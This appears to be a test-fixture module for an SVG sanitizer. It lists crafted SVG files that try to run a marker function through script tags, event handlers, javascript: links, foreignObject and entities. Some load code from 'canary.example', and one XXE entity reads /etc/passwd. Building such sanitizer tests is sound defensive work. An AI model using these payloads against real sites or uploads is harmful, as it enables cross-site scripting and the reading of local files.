// Drawings (SVG) that do more than they should. `§` is the number of the drawing.
const RUN = 'zhit(§)';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inside, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg" ${XLINK} width="40" height="40" viewBox="0 0 40 40"${attributes}>${inside}<circle cx="20" cy="20" r="9"/></svg>\n`;
const b64 = (text) => Buffer.from(text).toString('base64');

/** What each tries, and the file. */
export const DRAWINGS = [
  ['script', svg(`<script>${RUN}</script>`)],
  ['script in CDATA', svg(`<script><![CDATA[${RUN}]]></script>`)],
  ['script of another type', svg(`<script type="application/ecmascript">${RUN}</script>`)],
  ['script of HTML', svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`)],
  ['script by a prefix', `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="40" height="40"><s:script>${RUN}</s:script></s:svg>\n`],
  ['script from elsewhere', svg('<script href="//canary.example/§.js"/>')],
  ['script from data', svg(`<script ${XLINK} xlink:href="data:text/javascript;base64,${b64('zhit')}"/><script href="data:text/javascript,${RUN}"/>`)],
  ['onload of the root', svg('', ` onload="${RUN}"`)],
  ['onload by references', svg('', ` onload="&#122;hit&#x28;§)"`)],
  ['onload inside', svg(`<g onload="${RUN}"/>`)],
  ['onbegin', svg(`<animate attributeName="x" dur="1s" onbegin="${RUN}"/>`)],
  ['onclick and onmouseover', svg(`<rect width="40" height="40" onclick="${RUN}" onmouseover="${RUN}"/>`)],
  ['onfocusin', svg(`<text y="20" tabindex="0" onfocusin="${RUN}" onfocus="${RUN}">x</text>`)],
  ['onerror of an image', svg(`<image href="x:" onerror="${RUN}"/>`)],
  ['foreignObject with a script', svg(`<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></body></foreignObject>`)],
  ['foreignObject with an image', svg(`<foreignObject width="40" height="40"><img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="${RUN}"/></foreignObject>`)],
  ['foreignObject with a frame', svg(`<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"/></foreignObject>`)],
  ['foreignObject with a form', svg(`<foreignObject width="40" height="40"><form xmlns="http://www.w3.org/1999/xhtml" action="javascript:${RUN}"><button>x</button></form></foreignObject>`)],
  ['link', svg(`<a href="javascript:${RUN}"><rect width="40" height="40"/></a>`)],
  ['link by xlink', svg(`<a xlink:href="java&#9;script:${RUN}"><rect width="40" height="40"/></a>`)],
  ['link that is animated', svg(`<a><animate attributeName="href" values="javascript:${RUN}"/><rect width="40" height="40"/></a>`)],
  ['link that is set', svg(`<a xlink:href="#"><set attributeName="xlink:href" to="javascript:${RUN}" begin="0s"/><rect width="40" height="40"/></a>`)],
  ['use of data', svg(`<use href="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="zhit()"/>')}#x"/>`)],
  ['use from elsewhere', svg('<use href="//canary.example/§.svg#x"/>')],
  ['image from elsewhere', svg('<image width="9" height="9" href="//canary.example/§.png"/>')],
  ['style from elsewhere', svg('<style>@import "//canary.example/§.css"; circle { fill: url(//canary.example/§.svg#a) }</style>')],
  ['font from elsewhere', svg('<style>@font-face { font-family: x; src: url(//canary.example/§.woff) }</style><text y="20" font-family="x">x</text>')],
  ['style sheet of the file', `<?xml-stylesheet href="//canary.example/§.css"?>${svg('')}`],
  ['XSL of the file', `<?xml-stylesheet type="text/xsl" href="//canary.example/§.xsl"?>${svg('')}`],
  ['entity', `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]>\n${svg('&x;')}`],
  ['entity from a file', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${svg('<text y="20">&x;</text>')}`],
  ['entity of an attribute', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>\n${svg('')}`],
  ['handler', svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="application/ecmascript">${RUN}</handler>`)],
  ['discard and audio', svg(`<audio xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="${RUN}"/><discard begin="0s"/>`)],
  ['metadata with a script', svg(`<metadata><script>${RUN}</script></metadata>`)],
  ['refresh', svg('<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//canary.example/§"/></foreignObject>')],
];

/** Drawings that only look as if they did more: they are published. */
export const FINE_DRAWINGS = [
  ['words of a script', svg(`<title>&lt;script&gt;${RUN}&lt;/script&gt;</title><desc>" onload="${RUN}</desc>`)],
  ['words beside the drawing', svg(`<text y="20">${RUN}</text><!-- <script>${RUN}</script> -->`)],
  ['link to another site', svg('<a href="https://other.example/"><rect width="9" height="9"/></a>')],
  ['script in CDATA of a text', svg(`<text y="20"><![CDATA[<script>${RUN}</script>]]></text>`)],
];
